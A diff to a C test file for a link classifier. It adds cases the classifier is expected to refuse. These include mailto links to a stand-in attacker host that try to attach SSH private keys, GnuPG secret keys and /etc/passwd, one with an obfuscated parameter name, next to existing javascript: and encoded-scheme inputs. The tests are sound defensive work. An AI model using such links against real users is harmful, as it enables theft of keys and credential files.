@@ -25,6 +25,7 @@ int main(void) {
   expect("www.example.org/x", PB_LINKS_WEB, "https://www.example.org/x");
   expect("mailto:a@b.org", PB_LINKS_MAIL, "mailto:a@b.org");
   expect("MailTo:a@b.org", PB_LINKS_MAIL, "mailto:a@b.org");
+  expect("mailto:a@b.org?subject=Hi&body=x%20y;%20z&cc=c@d.org", PB_LINKS_MAIL, NULL);
   expect("#section-2", PB_LINKS_ANCHOR, NULL);
   expect("Slide/x.pptx", PB_LINKS_RELATIVE, "Slide/x.pptx");
   const char *refused[] = {"javascript:alert(1)",
@@ -54,6 +55,9 @@ int main(void) {
                            "/etc/passwd",
                            "C:\\Windows\\system32\\calc.exe",
                            "ftp://x/y",
+                           "mailto:a@evil.example?attach=/home/u/.ssh/id_rsa",
+                           "mailto:a@evil.example?subject=x&ATTACHMENT=file:///etc/passwd",
+                           "mailto:a@evil.example?body=x&amp;att%61ch=~/.gnupg/secring.gpg",
                            "h%74tps://x",
                            "&#104;ttps://x",
                            "",
